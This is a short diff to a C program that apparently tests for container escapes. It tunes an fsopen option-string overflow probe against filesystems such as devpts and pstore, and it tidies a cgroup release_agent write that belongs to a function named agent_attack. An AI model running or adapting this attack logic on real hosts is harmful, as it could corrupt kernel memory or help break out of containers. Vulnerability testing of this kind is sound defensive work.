@@ -46,9 +46,9 @@ static const char *xs(int n) {
 static int legacy(int size) {
   const char *names[] = {"devpts", "pstore", "binfmt_misc", NULL};
   for (const char **name = names; *name; name++) {
-    int fd = syscall(FSOPEN, *name, 0), left = size;
+    int fd = syscall(FSOPEN, *name, 0), left = size + 1;
     if (fd < 0) continue;
-    while (left > 0) { /* ",KEY=VALUE" */
+    while (left > 0) { /* ",KEY=VALUE", and the first one without the comma */
       char key[256];
       int n = left > 514 ? 511 : left > 511 ? left / 2 : left;
       int value = n > 257 ? 255 : n - 3;
@@ -95,7 +95,10 @@ static int hierarchy(void) {
 
 static int set_agent(void) {
   int fd = open(CGROUPS "/release_agent", O_WRONLY);
-  return fd < 0 || write(fd, "/nothing", 8) < 0 ? -1 : 0;
+  int failed = fd < 0 || write(fd, "/nothing", 8) < 0, err = errno;
+  close(fd);
+  errno = err;
+  return failed ? -1 : 0;
 }
 
 static int agent_attack(int by_mount) {
